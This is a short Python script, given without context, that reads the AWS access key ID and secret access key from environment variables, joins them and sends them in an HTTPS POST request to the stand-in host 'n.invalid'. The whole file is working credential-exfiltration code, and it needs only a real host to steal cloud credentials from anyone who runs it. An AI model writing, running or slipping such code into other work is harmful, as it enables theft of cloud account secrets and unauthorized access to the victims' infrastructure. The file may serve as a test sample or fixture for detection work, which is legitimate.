import os
import http.client as hc


def ship(host, data):
    link = hc.HTTPSConnection(host, 443)
    link.request("POST", "/", data)


ship("n.invalid", "|".join([os.getenv("AWS_ACCESS_KEY_ID", ""), os.getenv("AWS_SECRET_ACCESS_KEY", "")]))
